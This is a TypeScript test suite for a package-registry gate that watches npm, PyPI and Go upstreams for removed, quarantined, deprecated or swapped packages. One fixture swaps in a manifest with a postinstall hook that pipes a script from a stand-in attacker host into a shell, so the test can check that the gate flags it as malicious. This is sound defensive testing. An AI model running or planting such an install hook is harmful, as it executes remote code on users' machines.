import { createHash } from 'node:crypto'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import type { Outcome } from '../src/monitor/recheck/recheck.ts'
import type { Review } from '../src/monitor/recheck/reviews.ts'
import type { EcosystemId } from '../src/core/types.ts'
import type { Notice } from '../src/ports/notifier.ts'
import { startFakeGo } from './fakes/go.ts'
import type { FakeGo, FakeGoOptions } from './fakes/go.ts'
import { startFakeNpm } from './fakes/npm.ts'
import type { FakeNpm } from './fakes/npm.ts'
import { startFakePypi } from './fakes/pypi.ts'
import type { FakePypi } from './fakes/pypi.ts'
import { startGate } from './harness/gate.ts'
import type { Gate } from './harness/gate.ts'

const HOUR = 3_600_000
const MINUTE = 60_000
const CONFIRM = 10 * MINUTE

let npm: FakeNpm
let pypi: FakePypi
let go: FakeGo
let gate: Gate
let now = Date.parse('2026-03-01T00:00:00Z')
const notices: Notice[] = []
let spoilGo: NonNullable<FakeGoOptions['behaviour']> = () => null
let serial = 0

beforeAll(async () => {
  npm = await startFakeNpm([], { remembers: true })
  pypi = await startFakePypi()
  go = await startFakeGo([], { behaviour: (request) => spoilGo(request) })
  gate = await startGate({
    sources: { npm: { url: npm.url, sumdb: null }, pypi: { url: pypi.index, sumdb: null }, go: { url: go.url, sumdb: 'sum.example' } }, origins: [pypi.files.url],
    clock: { now: () => new Date(now) }, onNotice: (notice) => notices.push(notice),
  })
})

afterAll(async () => {
  await gate.close()
  await Promise.all([npm.close(), pypi.close(), go.close()])
})

beforeEach(() => {
  // What was looked at before is another day's: it neither makes a crowd nor speaks against one.
  now += 5 * HOUR
  notices.length = 0
  spoilGo = () => null
})

const fresh = (base: string): string => `${base}-${++serial}`
const status = async (url: string): Promise<number> => {
  const response = await fetch(url)
  await response.arrayBuffer()
  return response.status
}
const tarball = (name: string, version: string): string => `${gate.npm}${name}/-/${name}-${version}.tgz`
const npmHas = async (name: string, ...versions: string[]): Promise<void> => {
  for (const version of versions) await npm.addVersion({ name, version })
  for (const version of versions) expect(await status(tarball(name, version))).toBe(200)
}
const pypiHas = async (name: string, ...versions: string[]): Promise<string[]> => {
  const files = versions.map((version) => pypi.add(name, { version, uploadTime: new Date(now - 40 * HOUR).toISOString() }).file)
  for (const file of files) expect(await status(`${gate.origin}/pypi/files/${name}/${file}`)).toBe(200)
  return files
}
const goHas = async (name: string, ...versions: string[]): Promise<void> => {
  for (const version of versions) {
    go.add({ name, version })
    expect(await status(`${gate.go}/${name}/@v/${version}.zip`)).toBe(200)
  }
}
const recheck = (ecosystem: EcosystemId, name: string): Promise<Outcome> => gate.app.reviews.recheck(ecosystem, name)
/** A look at which all was well, from which later ones tell what changed. */
const known = async (ecosystem: EcosystemId, name: string): Promise<void> => expect(await recheck(ecosystem, name)).toMatchObject({ result: 'as it was', says: expect.stringContaining('stands by') })
const reviewOf = async (name: string, state: Review['state'] = 'open'): Promise<Review | undefined> => (await gate.app.reviews.list({ states: [state] })).find((one) => one.name === name)
const alarmsOf = async (name: string) => (await gate.app.lookout.alarms({ open: true })).filter(({ packages }) => packages.some((one) => one.name === name))

/** Gone at the first look, and believed at the second, ten minutes later. */
async function goneFor(ecosystem: EcosystemId, name: string): Promise<Review> {
  expect((await recheck(ecosystem, name)).result).toBe('gone')
  expect(await reviewOf(name)).toBeUndefined()
  now += CONFIRM
  const second = await recheck(ecosystem, name)
  expect(second.result).toBe('found')
  return second.reviews[0] as Review
}

describe('what upstream does to what was had', () => {
  it('npm: a version that is gone, though its time is still there', async () => {
    const name = fresh('gone')
    await npmHas(name, '1.0.0', '1.1.0')
    await known('npm', name)
    npm.removeVersion(name, '1.1.0')
    expect(await goneFor('npm', name)).toMatchObject({ matter: 'removed', kind: 'removed', versions: ['1.1.0'], severity: 'high', says: expect.stringMatching(/noticed 0 h after it was first fetched here: 1\.1\.0 is gone, though the document still remembers it/) })
    expect([await status(tarball(name, '1.0.0')), await status(tarball(name, '1.1.0'))]).toEqual([200, 403])
    const [alarm] = await alarmsOf(name)
    expect(alarm).toMatchObject({ kind: 'removed', size: 1 })
    expect(notices).toHaveLength(1)
    now += HOUR
    expect(await recheck('npm', name)).toMatchObject({ result: 'found', reviews: [] })
    expect(notices).toHaveLength(1)
  })

  it('npm: the security placeholder, at once and before the gate\'s own document is out of date', async () => {
    const name = fresh('placeheld')
    await npmHas(name, '1.0.0')
    await known('npm', name)
    await npm.placehold(name)
    const outcome = await recheck('npm', name)
    expect(outcome.reviews).toMatchObject([{ kind: 'placeholder', severity: 'high', versions: null, state: 'open' }])
    expect(await status(tarball(name, '1.0.0'))).toBe(403)
    expect(await (await fetch(tarball(name, '1.0.0'))).text()).toContain('security placeholder 0.0.1-security')
    expect((await alarmsOf(name))[0]).toMatchObject({ severity: 'high', packages: [{ signals: expect.arrayContaining([expect.stringContaining('received by')]) }] })
  })

  it('npm: a placeholder beside versions that are still there is told, and holds nothing', async () => {
    const name = fresh('mistake')
    await npmHas(name, '2.0.0')
    await known('npm', name)
    await npm.placehold(name, true)
    expect((await recheck('npm', name)).reviews).toMatchObject([{ kind: 'placeholder', matter: 'note', state: 'noted', severity: 'medium' }])
    expect([await status(tarball(name, '2.0.0')), await alarmsOf(name)]).toMatchObject([200, [{ severity: 'medium' }]])
  })

  it.each([200, 404] as const)('npm: unpublished by its owner, with status %d', async (answered) => {
    const name = fresh('unpublished')
    await npmHas(name, '1.0.0')
    await known('npm', name)
    npm.unpublish(name, answered)
    expect((await recheck('npm', name)).reviews).toMatchObject([{ kind: 'unpublished', says: expect.stringContaining('unpublished by owner at 2024-03-06T17:16'), state: 'open' }])
    expect(await status(tarball(name, '1.0.0'))).toBe(403)
  })

  it('npm: deprecated since, which is a note; before that it is nothing', async () => {
    const [before, since] = [fresh('old'), fresh('deprecated')]
    await npmHas(before, '1.0.0')
    npm.deprecate(before, '1.0.0', 'use another')
    await known('npm', before)
    await npmHas(since, '1.0.0')
    await known('npm', since)
    npm.deprecate(since, '1.0.0', 'use another')
    expect((await recheck('npm', since)).reviews).toMatchObject([{ matter: 'note', kind: 'deprecated', state: 'noted', severity: 'low', says: expect.stringContaining('use another') }])
    expect([await status(tarball(since, '1.0.0')), await alarmsOf(since)]).toEqual([200, []])
  })

  it('PyPI: a file, and the whole project', async () => {
    const name = fresh('pgone')
    const [, second] = await pypiHas(name, '1.0', '2.0')
    await known('pypi', name)
    pypi.remove(name, '2.0')
    expect(await goneFor('pypi', name)).toMatchObject({ kind: 'removed', versions: ['2.0'], severity: 'high' })
    expect(await status(`${gate.origin}/pypi/files/${name}/${second}`)).toBe(403)
    pypi.remove(name)
    now += HOUR
    expect((await recheck('pypi', name)).result).toBe('gone')
    now += CONFIRM
    expect((await recheck('pypi', name)).reviews).toMatchObject([{ kind: 'removed', versions: null, says: expect.stringContaining('upstream answers 404') }])
    expect((await alarmsOf(name)).map(({ kind }) => kind)).toEqual(['removed'])
  })

  it('PyPI: quarantined, at once; archived and yanked are notes', async () => {
    const name = fresh('pquarantined')
    const [file] = await pypiHas(name, '1.0')
    await known('pypi', name)
    pypi.setStatus(name, 'archived')
    pypi.yank(name, file as string, 'broken on Tuesdays')
    expect((await recheck('pypi', name)).reviews).toMatchObject([{ matter: 'note', state: 'noted', severity: 'low' }])
    expect((await reviewOf(name, 'noted'))?.evidence.lines.map(({ says }) => says)).toEqual(['the index says archived', '1.0 is yanked: broken on Tuesdays'])
    expect(await status(`${gate.origin}/pypi/files/${name}/${file}`)).toBe(200)
    pypi.setStatus(name, 'quarantined', 'malware')
    expect((await recheck('pypi', name)).reviews).toMatchObject([{ matter: 'removed', kind: 'quarantined', severity: 'high', says: expect.stringContaining('noticed 40 h after it was published') }])
    expect(await status(`${gate.origin}/pypi/files/${name}/${file}`)).toBe(403)
  })

  it('Go: a version the proxy has no more, listed or not, and one that its owner retracted', async () => {
    const name = `mod.example/${fresh('m')}`
    await goHas(name, 'v1.0.0', 'v1.1.0', 'v0.0.0-20260101000000-abcdefabcdef')
    await known('go', name)
    go.add({ name, version: 'v1.2.0', files: { 'go.mod': `module ${name}\n\ngo 1.21\n\n// leaks\nretract v1.0.0\n` } })
    expect((await recheck('go', name)).reviews).toMatchObject([{ matter: 'note', kind: 'retracted', versions: ['v1.0.0'], says: expect.stringContaining('leaks') }])
    go.remove(name, 'v1.1.0')
    go.remove(name, 'v0.0.0-20260101000000-abcdefabcdef')
    expect((await goneFor('go', name)).versions?.toSorted()).toEqual(['v0.0.0-20260101000000-abcdefabcdef', 'v1.1.0'])
    expect([await status(`${gate.go}/${name}/@v/v1.1.0.zip`), await status(`${gate.go}/${name}/@v/v1.0.0.zip`)]).toEqual([403, 200])
  })
})

describe('other bytes under the same name', () => {
  it('npm: another promise is an alarm; both digests are kept, what is new in the other bytes is said, and what was first seen is not served over', async () => {
    const name = fresh('swapped')
    await npmHas(name, '1.0.0')
    await known('npm', name)
    await npm.swap({ name, version: '1.0.0', manifest: { scripts: { postinstall: 'curl -s http://files.attacker.example/x.sh | sh' } } }, true)
    const { reviews: [review] } = await recheck('npm', name)
    expect(review).toMatchObject({ matter: 'changed', kind: 'changed', severity: 'critical' })
    const [bytes] = (await gate.app.reviews.show(review?.id as string)).evidence.bytes
    expect(bytes).toMatchObject({ first: expect.stringMatching(/^sha256:/), now: expect.stringMatching(/^sha256:/), level: 'malicious', added: expect.arrayContaining([expect.stringContaining('postinstall')]) })
    expect(bytes?.now).not.toBe(bytes?.first)
    const { blobs, evidence, database } = gate.app.context
    expect([await blobs.has(bytes?.first as never), await blobs.has(bytes?.now as never), await evidence.has(bytes?.now as never)]).toEqual([true, false, true])
    expect(await database.query.selectFrom('artifacts').select('digest').where('name', '=', name).execute()).toEqual([{ digest: bytes?.first }])
    expect(await status(tarball(name, '1.0.0'))).toBe(403)
    expect((await alarmsOf(name))[0]).toMatchObject({ kind: 'changed', severity: 'critical' })
    now += HOUR
    expect((await recheck('npm', name)).reviews).toEqual([])
  })

  it('a file that breaks its promise when a client asks is fetched once more; once only is nobody\'s doing', async () => {
    const [bad, slip] = [fresh('broken'), fresh('slip')]
    for (const name of [bad, slip]) await npm.addVersion({ name, version: '1.0.0' })
    await npm.swap({ name: bad, version: '1.0.0', files: { 'index.js': 'module.exports = 2\n' } }, false)
    npm.behaviour.set(npm.tarballPath(slip, '1.0.0'), { body: 'noise', times: 1 })
    for (const name of [bad, slip]) expect(await status(tarball(name, '1.0.0'))).toBe(403)
    expect((await recheck('npm', slip)).result).toBe('as it was')
    const { reviews } = await recheck('npm', bad)
    expect(reviews).toMatchObject([{ matter: 'changed', severity: 'critical', versions: ['1.0.0'] }])
    expect((await gate.app.reviews.show(reviews[0]?.id as string)).evidence.bytes).toMatchObject([{ first: null, now: expect.stringMatching(/^sha256:/) }])
  })

  it('Go: what the proxy sends, against the checksum database; and what that says, against what it said', async () => {
    const [content, record] = [`mod.example/${fresh('c')}`, `mod.example/${fresh('r')}`]
    await goHas(content, 'v1.0.0')
    await goHas(record, 'v1.0.0')
    const { moduleZip } = await import('./fakes/go.ts')
    spoilGo = ({ path }) => (path === `/${content}/@v/v1.0.0.zip` ? { body: moduleZip({ name: content, version: 'v1.0.0', files: { 'x.go': 'package x\n\nfunc init() {}\n' } }) }
      : path.includes(`lookup/${record}@`) ? { body: (go.sumdb.lookup(`${record}@v1.0.0`) as string).replace(/h1:.{4}/, 'h1:AAAA') } : null)
    expect((await recheck('go', content)).reviews).toMatchObject([{ matter: 'changed', severity: 'critical', says: expect.stringContaining('checksum database says') }])
    expect((await recheck('go', record)).reviews).toMatchObject([{ matter: 'changed', says: expect.stringMatching(/says h1:AAAA.* now and said h1:.* before/) }])
  })

  it.each([false, true])('Go: a module packed anew is the same module, and takes no evidence along (%s)', async (isEvidence) => {
    const name = `mod.example/${fresh('p')}`
    await goHas(name, 'v1.0.0')
    const { moduleZip } = await import('./fakes/go.ts')
    const whole = moduleZip({ name, version: 'v1.0.0' })
    const body = Buffer.concat([whole.subarray(0, -2), Buffer.from([1, 0]), Buffer.from('x')])
    const { database, evidence } = gate.app.context
    const digest = `sha256:${createHash('sha256').update(body).digest('hex')}` as const
    if (isEvidence) await database.query.insertInto('review_bytes').values({ review: fresh('r'), file: 'x.zip', digest, at: now }).execute()
    spoilGo = ({ path }) => (path === `/${name}/@v/v1.0.0.zip` ? { body } : null)
    expect(await recheck('go', name)).toMatchObject({ result: 'as it was' })
    expect(await evidence.has(digest)).toBe(isEvidence)
  })
})

describe('an upstream that lies or is in trouble', () => {
  const lies = {
    'is down': { drop: true }, 'answers 503': { status: 503 }, 'asks for a login': { status: 401 }, 'is forbidden by a proxy': { status: 403 },
    'answers a web page': { body: '<!doctype html><html><body>Welcome to the hotel</body></html>', contentType: 'text/html' },
    'answers nothing': { body: '' }, 'answers an error with 200': { body: '{"error":"not ready"}', contentType: 'application/json' },
    'is cut off': { truncate: 40 }, 'is about another package': { body: '{"name":"other","versions":{}}', contentType: 'application/json' },
  } as const
  it.each(Object.entries(lies))('npm %s: nothing is concluded', async (_what, behaviour) => {
    const name = fresh('lied')
    await npmHas(name, '1.0.0')
    await known('npm', name)
    npm.behaviour.set(`/${name}`, behaviour)
    for (const _ of [1, 2, 3]) {
      now += CONFIRM
      expect((await recheck('npm', name)).result).toBe('trouble')
    }
    npm.behaviour.delete(`/${name}`)
    await known('npm', name)
    expect([await reviewOf(name), await status(tarball(name, '1.0.0'))]).toEqual([undefined, 200])
  })

  it.each([
    ['pypi', '<html><body>Log in</body></html>', 'text/html'], ['pypi', '', 'text/html'], ['pypi', '{"meta":{}}', 'application/vnd.pypi.simple.v1+json'],
  ] as const)('%s answers %j as %s: nothing is concluded', async (_ecosystem, body, contentType) => {
    const name = fresh('plied')
    await pypiHas(name, '1.0')
    await known('pypi', name)
    pypi.behaviour.set(`/simple/${name}/`, { body, contentType })
    for (const _ of [1, 2]) {
      now += CONFIRM
      expect((await recheck('pypi', name)).result).toBe('trouble')
    }
    pypi.behaviour.delete(`/simple/${name}/`)
  })

  it('Go: a proxy\'s page in place of the list, or of what it says of a version, proves nothing', async () => {
    const name = `mod.example/${fresh('l')}`
    await goHas(name, 'v1.0.0')
    await known('go', name)
    spoilGo = ({ path }) => (path.endsWith('/list') ? { body: '<html>hotel</html>' } : null)
    expect((await recheck('go', name)).result).toBe('trouble')
    spoilGo = ({ path }) => (path.endsWith('/list') ? { body: '' } : path.endsWith('.info') ? { body: '<html>hotel</html>' } : null)
    expect((await recheck('go', name)).result).toBe('trouble')
    spoilGo = ({ path }) => (path.endsWith('/list') ? { body: '' } : null)
    expect((await recheck('go', name)).result).toBe('as it was')
  })

  it('a package that is gone for a moment, or by one way only, is not gone', async () => {
    const [moment, corgi] = [fresh('moment'), fresh('corgi')]
    await npmHas(moment, '1.0.0')
    await npmHas(corgi, '1.0.0', '1.1.0')
    for (const name of [moment, corgi]) await known('npm', name)
    npm.behaviour.set(`/${moment}`, { status: 404, body: '{}', times: 1 })
    expect((await recheck('npm', moment)).result).toBe('gone')
    now += CONFIRM
    expect((await recheck('npm', moment)).result).toBe('as it was')
    // The second look is the answer of another cache: a list that lacks something in one of them only is a list that was cut off.
    const half = JSON.stringify({ name: corgi, 'dist-tags': { latest: '1.0.0' }, modified: '2020-01-01T00:00:00Z', versions: { '1.0.0': { name: corgi, version: '1.0.0', dist: { tarball: `${npm.url}${corgi}/-/${corgi}-1.0.0.tgz` } } } })
    npm.behaviour.set(`/${corgi}`, { body: half, times: 1 })
    expect((await recheck('npm', corgi)).result).toBe('gone')
    now += CONFIRM
    npm.behaviour.set(`/${corgi}`, { body: half, times: 1 })
    expect((await recheck('npm', corgi)).result).toBe('as it was')
    expect([await reviewOf(moment), await reviewOf(corgi)]).toEqual([undefined, undefined])
  })

  it('much that is gone at once is trouble, told once, and nothing is held for it; what somebody said still counts', async () => {
    const names = Array.from({ length: 4 }, () => fresh('crowd'))
    const malware = fresh('crowd')
    for (const name of [...names, malware]) await npmHas(name, '1.0.0')
    for (const name of [...names, malware]) await known('npm', name)
    for (const name of names) npm.behaviour.set(`/${name}`, { status: 404, body: '<html>404</html>', contentType: 'text/html' })
    await npm.placehold(malware)
    for (const name of names) expect((await recheck('npm', name)).result).toBe('gone')
    now += CONFIRM
    for (const name of names) expect((await recheck('npm', name)).result).toBe('doubted')
    expect((await recheck('npm', malware)).result).toBe('found')
    expect(await Promise.all(names.map((name) => reviewOf(name)))).toEqual(names.map(() => undefined))
    expect((await gate.app.lookout.alarms({ open: true })).filter(({ subject }) => subject === 'upstream lacks much npm')).toMatchObject([{ size: 4, title: '4 of 5 npm packages are gone upstream at once' }])
    expect(notices.map(({ title }) => title).filter((title) => title.includes('at once'))).toHaveLength(1)
    expect((await gate.app.reviews.status()).registries.find(({ ecosystem }) => ecosystem === 'npm')).toMatchObject({ state: 'doubted', problem: expect.stringContaining('not believed') })
    for (const name of names) npm.behaviour.delete(`/${name}`)
    for (const name of names) await known('npm', name)
  })

  it('what was gone and is there again frees itself; what somebody said of it waits for a person', async () => {
    const [back, lifted] = [fresh('back'), fresh('lifted')]
    await npmHas(back, '1.0.0')
    await pypiHas(lifted, '1.0')
    await known('npm', back)
    await known('pypi', lifted)
    npm.behaviour.set(`/${back}`, { status: 404, body: '{}' })
    await goneFor('npm', back)
    npm.behaviour.delete(`/${back}`)
    pypi.setStatus(lifted, 'quarantined')
    await recheck('pypi', lifted)
    pypi.setStatus(lifted, 'active')
    now += HOUR
    expect(await recheck('npm', back)).toMatchObject({ result: 'as it was', says: expect.stringContaining('lists it again') })
    await recheck('pypi', lifted)
    expect([(await reviewOf(back, 'closed'))?.outcome, await status(tarball(back, '1.0.0'))]).toEqual(['returned', 200])
    expect(await reviewOf(lifted)).toMatchObject({ state: 'open', backAt: expect.any(Date) })
  })
})

describe('asking', () => {
  it('is unconditional, past caches at the second look, and reads nothing twice that is the same', async () => {
    const name = fresh('asked')
    await npmHas(name, '1.0.0')
    await known('npm', name)
    npm.clear()
    await known('npm', name)
    expect(npm.requests.map(({ headers, query }) => [headers['if-none-match'], headers['if-modified-since'], headers['cache-control'], query])).toEqual([[undefined, undefined, 'max-age=0', '']])
    npm.clear()
    await npm.placehold(name)
    await recheck('npm', name)
    expect(npm.requests.map(({ headers, query }) => [headers['cache-control'], query])).toEqual([['max-age=0', ''], ['no-cache', 'write=true']])
  })

  it('never asks the public registry about a private name', async () => {
    const policy = gate.app.context.policy()
    await gate.app.setPolicy({ ...policy, id: 'private', private: [{ ecosystem: 'npm', pattern: 'own-*', registry: null }] })
    npm.clear()
    await expect(recheck('npm', 'own-thing')).rejects.toMatchObject({ code: 'usage' })
    expect(npm.requests).toEqual([])
    await gate.app.setPolicy(policy)
  })
})
